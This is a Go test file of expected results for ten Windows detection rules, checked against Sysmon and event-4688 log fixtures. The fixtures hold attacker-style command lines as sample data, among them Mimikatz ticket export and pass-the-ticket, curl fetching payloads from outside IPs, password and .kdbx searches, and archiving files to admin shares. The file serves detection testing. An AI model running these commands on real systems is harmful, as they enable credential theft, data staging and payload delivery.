package cimtest

// specsA covers §4.4 #1-#10. Sysmon rows: dest = Computer, user = User
// without its domain, process = CommandLine, parent_process =
// ParentCommandLine, ids decimal. 4688 rows: process = CommandLine when its
// first token has a backslash, else NewProcessName + " " + arguments;
// parent_process = ParentProcessName (a path); ids hex text; user =
// SubjectUserName (TargetUserName is "-"); original_file_name "unknown" and
// GUIDs "null" (fillnull_value=null).
func specsA() map[string]detSpec {
	return map[string]detSpec{
		"control_loading_from_world_writable_directory": {
			name: "Control Loading from World Writable Directory",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-02-11T09:14:27.318Z", row{
					"dest": h1, "user": u1, "parent_process_name": "explorer.exe", "process_name": "control.exe",
					"process":    `"C:\Windows\System32\control.exe" "C:\Users\alice.m\AppData\Roaming\Microsoft\wincfg.cpl"`,
					"process_id": "7412", "parent_process_id": "5528", "original_file_name": "CONTROL.EXE"})}},
				{file: "sec4688", want: []row{once("2025-02-11T10:02:51.904Z", row{
					"dest": h2, "user": u2, "parent_process_name": "cmd.exe", "process_name": "control.exe",
					"process":    `C:\Windows\System32\control.exe C:\ProgramData\svc\panel.cpl`,
					"process_id": "0x1f3c", "parent_process_id": "0x9a8", "original_file_name": "unknown"})}},
				// OriginalFileName "-" counts as missing -> "unknown"; the
				// domain of NT AUTHORITY\SYSTEM is stripped.
				{file: "sysmon1_system", want: []row{once("2025-02-11T12:00:00.875Z", row{
					"dest": h1, "user": "SYSTEM", "parent_process_name": "svchost.exe", "process_name": "control.exe",
					"process": `control.exe C:\Windows\Temp\x.cpl`, "process_id": "7460", "parent_process_id": "1200",
					"original_file_name": "unknown"})}},
				{file: "negative"}, // control.exe loading a System32 applet, Sysmon and 4688
			},
		},
		"windows_curl_download_to_suspicious_path": {
			name: "Windows Curl Download to Suspicious Path",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-02-12T08:41:09.551Z", row{
					"dest": h1, "user": u1, "parent_process_name": "cmd.exe", "process_name": "curl.exe", "original_file_name": "curl.exe",
					"process":    `curl.exe -s http://203.0.113.44/p.bin -o C:\Users\Public\Libraries\p.bin`,
					"process_id": "9120", "parent_process_id": "8844"})}},
				{file: "sec4688", want: []row{once("2025-02-12T09:03:44.020Z", row{
					"dest": h2, "user": u2, "parent_process_name": "powershell.exe", "process_name": "curl.exe", "original_file_name": "unknown",
					"process":    `"C:\Windows\System32\curl.exe" --output C:\ProgramData\upd\agent.dll https://198.51.100.20/agent.dll`,
					"process_id": "0x2a10", "parent_process_id": "0x1c4c"})}},
				{file: "negative"}, // curl -O into the user's Downloads folder
			},
		},
		"7zip_commandline_to_smb_share_path": {
			name: "7zip CommandLine To SMB Share Path",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-02-13T14:05:33.410Z", row{
					"original_file_name": "7z.exe", "parent_process_name": "cmd.exe", "parent_process": `cmd.exe /c C:\Users\alice.m\stage.bat`,
					"process_name": "7z.exe", "process": `"C:\Program Files\7-Zip\7z.exe" a -pS3cr3t \\10.20.1.5\C$\Windows\Temp\out.7z C:\Users\alice.m\Documents\*`,
					"parent_process_id": "6212", "process_id": "6604", "dest": h1, "user": u1})}},
				{file: "sec4688", want: []row{once("2025-02-13T14:40:12.007Z", row{
					"original_file_name": "unknown", "parent_process_name": "cmd.exe", "parent_process": cmdExe,
					"process_name": "7za.exe", "process": `C:\Windows\Temp\7za.exe a \\FS01\Admin$\temp\d.7z C:\Finance`,
					"parent_process_id": "0x1844", "process_id": "0x19e4", "dest": h2, "user": u2})}},
				{file: "negative"}, // 7z archiving to a local path
			},
		},
		"network_discovery_using_route_windows_app": {
			name: "Network Discovery Using Route Windows App",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-02-14T07:55:02.125Z", row{
					"dest": h1, "user": u1, "parent_process_name": "cmd.exe", "parent_process": `"C:\Windows\system32\cmd.exe"`,
					"process_name": "ROUTE.EXE", "process": "route print", "process_id": "4432", "parent_process_id": "4400"})}},
				{file: "sec4688", want: []row{once("2025-02-14T08:10:45.875Z", row{
					"dest": h2, "user": u2, "parent_process_name": "cmd.exe", "parent_process": cmdExe,
					"process_name": "ROUTE.EXE", "process": `C:\Windows\System32\ROUTE.EXE print -4`, "process_id": "0x1150", "parent_process_id": "0x1130"})}},
				// No CommandLine (command-line auditing off): process =
				// NewProcessName.
				{file: "sec4688_nocmdline", want: []row{once("2025-02-14T09:00:00.250Z", row{
					"dest": h2, "user": u2, "parent_process_name": "cmd.exe", "parent_process": cmdExe,
					"process_name": "ROUTE.EXE", "process": `C:\Windows\System32\ROUTE.EXE`, "process_id": "0x1190", "parent_process_id": "0x1130"})}},
				{file: "negative"}, // netstat -r
			},
		},
		"check_elevated_cmd_using_whoami": {
			name: "Check Elevated CMD using whoami",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-02-15T10:11:12.500Z", row{
					"dest": h1, "user": u1, "parent_process": "powershell.exe -nop", "process_name": "cmd.exe",
					"process": `cmd.exe /c whoami /groups | find "12288"`, "process_id": "8016", "parent_process_id": "7720"})}},
				{file: "sec4688", want: []row{once("2025-02-15T10:20:30.250Z", row{
					"dest": h2, "user": u2, "parent_process": psExe, "process_name": "cmd.exe",
					"process": `C:\Windows\System32\cmd.exe /c whoami /groups | find "12288"`, "process_id": "0x1f50", "parent_process_id": "0x1e28"})}},
				// XML entities in the command line stay encoded (§0.2).
				{file: "sysmon1_entities", want: []row{once("2025-02-15T11:00:00.125Z", row{
					"dest": h1, "user": u1, "parent_process": "powershell.exe -nop", "process_name": "cmd.exe",
					"process":    `cmd.exe /c whoami /groups | find "12288" &gt; C:\Users\Public\o.txt &amp; type C:\Users\Public\o.txt`,
					"process_id": "8090", "parent_process_id": "7720"})}},
				{file: "negative"}, // whoami /groups without the 12288 filter
			},
		},
		"anomalous_usage_of_7zip": {
			name: "Anomalous usage of 7zip",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-02-16T03:12:44.625Z", row{
					"dest": h1, "user": u1, "parent_process": `rundll32.exe C:\Users\Public\payload.dll,Start`, "parent_process_name": "rundll32.exe",
					"process_name": "7za.exe", "process": `C:\Users\Public\7za.exe a -tzip C:\Users\Public\d.zip C:\Users\alice.m\Documents`,
					"process_id": "5012", "parent_process_id": "4876"})}},
				{file: "sec4688", want: []row{once("2025-02-16T03:30:00.375Z", row{
					"dest": h2, "user": u2, "parent_process": `C:\Windows\System32\dllhost.exe`, "parent_process_name": "dllhost.exe",
					"process_name": "7z.exe", "process": `"C:\Program Files\7-Zip\7z.exe" x C:\ProgramData\a.7z -oC:\ProgramData\x`,
					"process_id": "0x13a4", "parent_process_id": "0x12f0"})}},
				{file: "negative"}, // 7z started from Explorer
			},
		},
		"mimikatz_passtheticket_commandline_parameters": {
			name: "Mimikatz PassTheTicket CommandLine Parameters",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-02-17T22:01:05.250Z", row{
					"dest": h1, "user": u1, "parent_process": "cmd.exe", "process_name": "mk.exe",
					"process": `mk.exe "privilege::debug" "sekurlsa::tickets /export" exit`, "process_id": "3344", "parent_process_id": "3300",
					"parent_process_name": "cmd.exe"})}},
				{file: "sec4688", want: []row{once("2025-02-17T22:15:40.125Z", row{
					"dest": h2, "user": u2, "parent_process": cmdExe, "process_name": "m64.exe",
					"process": `C:\ProgramData\m64.exe "kerberos::ptt C:\ProgramData\t.kirbi" exit`, "process_id": "0xd10", "parent_process_id": "0xcf0",
					"parent_process_name": "cmd.exe"})}},
				// TargetUserName present: it is the user, not SubjectUserName.
				{file: "sec4688_targetuser", want: []row{once("2025-02-17T23:00:00.500Z", row{
					"dest": h2, "user": "svc_sql", "parent_process": cmdExe, "process_name": "m64.exe",
					"process": `C:\ProgramData\m64.exe kerberos::ptt C:\ProgramData\u.kirbi`, "process_id": "0xd40", "parent_process_id": "0xcf0",
					"parent_process_name": "cmd.exe"})}},
				{file: "negative"}, // sekurlsa::tickets without /export
			},
		},
		"detect_html_help_using_infotech_storage_handlers": {
			name: "Detect HTML Help Using InfoTech Storage Handlers",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-02-18T12:00:01.750Z", row{
					"dest": h1, "user": u1, "parent_process": explore, "process_name": "hh.exe",
					"process": `hh.exe its:C:\Users\alice.m\Downloads\guide.chm::/page.htm`, "process_id": "2210", "parent_process_id": "5528"})}},
				{file: "sec4688", want: []row{once("2025-02-18T12:20:00.500Z", row{
					"dest": h2, "user": u2, "parent_process": `C:\Windows\explorer.exe`, "process_name": "hh.exe",
					"process": `"C:\Windows\hh.exe" mk:@MSITStore:\\198.51.100.7\share\help.chm::/index.html`, "process_id": "0x8a4", "parent_process_id": "0x7d0"})}},
				{file: "negative"}, // hh.exe opening a local .chm
			},
		},
		"windows_archive_collected_data_via_rar": {
			name: "Windows Archive Collected Data via Rar",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-02-19T16:45:10.125Z", row{
					"process_name": "Rar.exe", "original_file_name": "Rar.exe",
					"process":    `"C:\Program Files\WinRAR\Rar.exe" a -ep1 -r -y -v5m -m1 C:\Users\Public\out.rar C:\Users\alice.m\Documents\`,
					"process_id": "7788", "process_guid": guid(7788), "parent_process_name": "cmd.exe",
					"parent_process": `cmd.exe /c C:\Users\Public\c.bat`, "parent_process_guid": guid(7700), "dest": h1, "user": u1})}},
				{file: "sec4688", want: []row{once("2025-02-19T17:02:33.625Z", row{
					"process_name": "Rar.exe", "original_file_name": "unknown",
					"process":    `"C:\Program Files\WinRAR\Rar.exe" a -ep1 -r -y -v5m -m1 C:\Windows\Temp\d.rar D:\Shares\HR`,
					"process_id": "0x1e6c", "process_guid": "null", "parent_process_name": "cmd.exe",
					"parent_process": cmdExe, "parent_process_guid": "null", "dest": h2, "user": u2})}},
				// A quoted first token without a backslash: replaced by the
				// quoted NewProcessName (it has a space).
				{file: "sec4688_quoted", want: []row{once("2025-02-19T18:00:00.125Z", row{
					"process_name": "Rar.exe", "original_file_name": "unknown",
					"process":    `"C:\Program Files\WinRAR\Rar.exe" a -ep1 -r -y -v5m -m1 C:\Windows\Temp\e.rar D:\Shares\HR`,
					"process_id": "0x1e80", "process_guid": "null", "parent_process_name": "cmd.exe",
					"parent_process": cmdExe, "parent_process_guid": "null", "dest": h2, "user": u2})}},
				{file: "negative"}, // rar a -r without -ep1/-v5m/-m1
			},
		},
		"windows_password_managers_discovery": {
			name: "Windows Password Managers Discovery",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-02-20T09:09:09.125Z", row{
					"process_name": "cmd.exe", "original_file_name": "Cmd.Exe", "process": `cmd.exe /c dir /s /b C:\Users\*.kdbx`,
					"process_id": "6120", "process_guid": guid(6120), "parent_process_name": "powershell.exe",
					"parent_process": "powershell.exe", "parent_process_guid": guid(6100), "dest": h1, "user": u1})}},
				{file: "sec4688", want: []row{once("2025-02-20T09:30:15.250Z", row{
					"process_name": "findstr.exe", "original_file_name": "unknown", "process": `C:\Windows\System32\findstr.exe /si password *.xml *.ini *.config`,
					"process_id": "0x17f8", "process_guid": "null", "parent_process_name": "cmd.exe",
					"parent_process": cmdExe, "parent_process_guid": "null", "dest": h2, "user": u2})}},
				{file: "negative"}, // dir of a documents folder
			},
		},
	}
}
